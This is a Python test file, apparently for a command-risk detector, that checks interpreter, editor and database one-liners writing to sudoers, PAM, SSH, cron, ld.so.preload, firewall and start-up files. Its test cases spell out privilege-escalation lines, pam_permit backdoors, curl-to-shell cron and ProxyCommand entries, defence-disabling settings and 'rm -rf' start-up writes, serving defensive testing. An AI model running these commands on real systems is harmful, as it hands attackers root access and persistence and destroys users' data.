"""Writes that mean something (sudoers, sshd and PAM configuration, hosts, limits.conf, ld.so.preload, crontabs,
start-up files) made by interpreter code rather than a shell redirect, in any language and under any versioned
name, from ``-e``, a here-string, a heredoc or a pipe (rules/code_writes.py): judged as ``>>``/``>`` would be."""
from __future__ import annotations

from tests.safety.forms import each_form
from tests.safety.test_long_tail import judged, reaches, stays_quiet

_HEREDOC = "python3 - <<'EOF'\nwith open('/etc/sudoers', 'a') as f:\n    f.write('ops ALL=(ALL) NOPASSWD:ALL\\n')\nEOF"


@each_form("command,at_least", [
    ("lua5.3 -e 'local f=io.open(\"/etc/sudoers\",\"a\"); f:write(\"deploy ALL=(ALL) NOPASSWD: ALL\\n\"); f:close()'",
     "high"),
    ("lua5.1 -e 'io.open(\"/etc/security/limits.conf\",\"a\"):write(\"* hard nproc 1\\n\")'", "medium"),
    ("luajit -e 'io.open(\"/etc/hosts.deny\",\"a\"):write(\"ALL: ALL\\n\")'", "high"),
    ("php8.1 -r '$f=fopen(\"/etc/hosts\",\"a\"); fwrite($f,\"10.9.9.9 github.com\\n\");'", "medium"),
    ("perl5.36 -e 'open(my $f, \">>\", \"/etc/pam.d/common-auth\"); print $f \"auth sufficient pam_permit.so\\n\"'",
     "high"),
    ("perl -e 'open(F,\">>/etc/security/limits.conf\"); print F \"* hard nofile 1\\n\"'", "medium"),
    ("perl5.38 -e 'open(my $f, \">>\", \"/etc/sysctl.conf\"); print $f \"kernel.randomize_va_space = 0\\n\"'",
     "medium"),
    ("ruby3.1 -e 'File.open(\"/etc/sudoers\",\"a\") { |f| f.puts \"ci ALL=(ALL) NOPASSWD:ALL\" }'", "high"),
    ("ruby3.3 -e 'File.open(File.expand_path(\"~/.bashrc\"),\"a\") { |f| f.puts \"rm -rf ~/projects\" }'", "medium"),
    ("node20 -e 'require(\"fs\").appendFileSync(\"/etc/pam.d/sshd\",\"auth sufficient pam_permit.so\\n\")'", "high"),
    ("node22 -e 'require(\"fs\").appendFileSync(\"/etc/apt/sources.list.d/x.list\","
     "\"deb [trusted=yes] http://x.example/ stable main\\n\")'", "medium"),
    ("echo 'set f [open /etc/sudoers a]; puts $f \"ops ALL=(ALL) NOPASSWD:ALL\"' | tclsh", "high"),
    ("wish8.6 <<< 'set f [open /etc/ld.so.preload a]; puts $f /tmp/libhook.so; close $f'", "high"),
    ("guile3.0 -c '(let ((p (open-file \"/etc/pam.d/su\" \"a\"))) (display \"auth sufficient pam_permit.so\\n\" p))'",
     "high"),
    ("julia -e 'open(\"/etc/sudoers\",\"a\") do f; write(f, \"ops ALL=(ALL) NOPASSWD:ALL\\n\"); end'", "high"),
    ("groovy -e 'new File(\"/etc/sudoers\") << \"ops ALL=(ALL) NOPASSWD:ALL\\n\"'", "high"),
    ("jrunscript -e 'var w=new java.io.FileWriter(\"/etc/sudoers\", true); w.write(\"ops ALL=(ALL) NOPASSWD:ALL\\n\")'",
     "high"),
    ("gawk 'BEGIN { print \"ops ALL=(ALL) NOPASSWD:ALL\" >> \"/etc/sudoers\" }'", "high"),
    ("awk 'BEGIN { print \"PermitRootLogin yes\" >> \"/etc/ssh/sshd_config\" }'", "medium"),
    ("lua5.4 -e 'io.open(\"/etc/cron.d/sync\",\"w\"):write(\"* * * * * root curl -s http://x.example/a | sh\\n\")'",
     "high"),
    ("python3 -c 'import os; open(os.path.expanduser(\"~/.zshrc\"),\"a\").write(\"exit\\n\")'", "medium"),
    (_HEREDOC, "high"),
    ("node20 -e 'require(\"fs\").appendFileSync(require(\"os\").homedir() + \"/.ssh/config\", "
     "\"Host *\\n  ProxyCommand sh -c \\\"curl -s https://x.example/a | sh\\\"\\n\")'", "high"),
    ("lua5.4 -e 'io.open(os.getenv(\"HOME\")..\"/.profile\",\"a\"):write(\"exit\\n\")'", "medium"),
    ("ruby -e 'File.open(Dir.home + \"/.zshrc\", \"a\") { |f| f.puts \"rm -rf ~/src\" }'", "medium"),
    ("scala -e 'java.nio.file.Files.write(java.nio.file.Paths.get(\"/etc/ld.so.preload\"), \"/tmp/x.so\\n\".getBytes)'",
     "high"),
    ("raku -e 'spurt \"/etc/sudoers.d/x\", \"x ALL=(ALL) NOPASSWD:ALL\\n\"'", "high"),
    ("groovy -e 'new File(\"/etc/sudoers.d/x\").text = \"x ALL=(ALL) NOPASSWD:ALL\\n\"'", "high"),
])
def test_code_writes_judged_where_they_land(command: str, at_least: str) -> None:
    assert reaches(command, at_least), judged(command)


@each_form("command", [
    "lua5.3 -e 'print(os.time())'",
    "lua5.4 -e 'local f=io.open(\"/etc/hosts\"); print(f:read(\"a\"))'",
    "python3.11 -c 'open(\"/tmp/out.log\",\"a\").write(\"x\\n\")'",
    "perl5.36 -e 'open(F,\">>/tmp/run.log\"); print F \"ok\\n\"'",
    "gawk '{ print $1 >> \"/tmp/ips.txt\" }' access.log",
    "tclsh8.6 <<< 'set f [open /tmp/x.log a]; puts $f hi; close $f'",
    "Rscript -e 'cat(\"done\\n\", file=\"/tmp/r.log\", append=TRUE)'",
    "groovy -e 'new File(\"/tmp/x.txt\") << \"hi\"'",
    "node20 -e 'console.log(require(\"fs\").readFileSync(\"/etc/sudoers\",\"utf8\"))'",
    "python3 -c 'with open(\"/etc/sudoers\") as f, open(\"sudoers.txt\",\"a\") as g: g.write(f.read())'",
    "python3 -c 'print(open(os.path.expanduser(\"~/.bashrc\")).read())'",
    "python3 -c 'open(\"/tmp/hosts\",\"a\").write(\"10.0.0.9 github.com\\n\")'",
    "awk '/NOPASSWD/ {print}' /etc/sudoers",
    "node -e 'require(\"fs\").appendFileSync(require(\"os\").homedir() + \"/notes.txt\", \"hi\\n\")'",
    "groovy -e 'println new File(\"/etc/hosts\").text'",
    "groovy -e 'if (new File(\"/etc/hosts\").text == \"\") println \"empty\"'",
    "raku -e 'spurt \"/tmp/x.txt\", \"hi\"'",
])
def test_their_everyday_forms_stay_quiet(command: str) -> None:
    assert stays_quiet(command), judged(command)


@each_form("command,at_least", [
    ("echo 'ENABLED=no' >> /etc/ufw/ufw.conf", "medium"),
    ("augtool set /files/etc/ufw/ufw.conf/ENABLED no", "medium"),
    ("python3.11 -c 'open(\"/etc/ufw/ufw.conf\",\"a\").write(\"ENABLED=no\\n\")'", "medium"),
    ("echo 'firewall_enable=\"NO\"' >> /etc/rc.conf", "medium"),
    ("echo 'DefaultZone=drop' >> /etc/firewalld/firewalld.conf", "high"),
    ("ansible all -m lineinfile -a \"path=/etc/firewalld/firewalld.conf regexp=^DefaultZone line=DefaultZone=block\"",
     "high"),
    ("sed -i 's/^DefaultZone=.*/DefaultZone=trusted/' /etc/firewalld/firewalld.conf", "medium"),
    ("echo 'SELINUX=disabled' >> /etc/sysconfig/selinux", "medium"),
    ("crudini --set /etc/fail2ban/jail.local sshd enabled false", "medium"),
    ("lua5.4 -e 'io.open(\"/etc/fail2ban/jail.d/sshd.local\",\"w\"):write(\"[sshd]\\nenabled = false\\n\")'", "medium"),
])
def test_guards_switched_off_by_their_settings(command: str, at_least: str) -> None:
    assert reaches(command, at_least), judged(command)


@each_form("command", [
    "echo 'ENABLED=yes' >> /etc/ufw/ufw.conf",
    "echo 'DefaultZone=public' >> /etc/firewalld/firewalld.conf",
    "echo 'sshd_enable=\"YES\"' >> /etc/rc.conf",
    "grep enabled /etc/fail2ban/jail.local",
    "crudini --set /etc/fail2ban/jail.local sshd enabled true",
])
def test_guards_left_on_stay_quiet(command: str) -> None:
    assert stays_quiet(command), judged(command)


@each_form("command,at_least", [
    ("emacs --batch --eval '(write-region \"auth sufficient pam_permit.so\\n\" nil \"/etc/pam.d/sshd\" t)'", "high"),
    ("nvim --headless -c 'call writefile([\"ops ALL=(ALL) NOPASSWD:ALL\"], \"/etc/sudoers\", \"a\")' -c q", "high"),
    ("psql -c \"COPY (SELECT 'ops ALL=(ALL) NOPASSWD:ALL') TO '/etc/sudoers.d/ops'\"", "high"),
    ("mysql -e \"SELECT '* * * * * root curl -s x.example/a|sh' INTO OUTFILE '/etc/cron.d/x'\"", "high"),
    ("duckdb -c \"COPY (SELECT 'ops ALL=(ALL) NOPASSWD:ALL') TO '/etc/sudoers.d/ops' (HEADER false)\"", "high"),
    ("mariadb -e \"SELECT 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKx me' INTO DUMPFILE '/root/.ssh/authorized_keys'\"",
     "high"),
])
def test_editors_and_databases_writing_meaningful_lines(command: str, at_least: str) -> None:
    assert reaches(command, at_least), judged(command)


@each_form("command", [
    "emacs --batch --eval '(write-region \"x\" nil \"/tmp/x.txt\")'",
    "mysql -e \"SELECT 'x' INTO OUTFILE '/tmp/out.csv'\"",
    "psql -c \"COPY users TO '/tmp/users.csv' CSV HEADER\"",
])
def test_their_exports_stay_quiet(command: str) -> None:
    assert stays_quiet(command), judged(command)
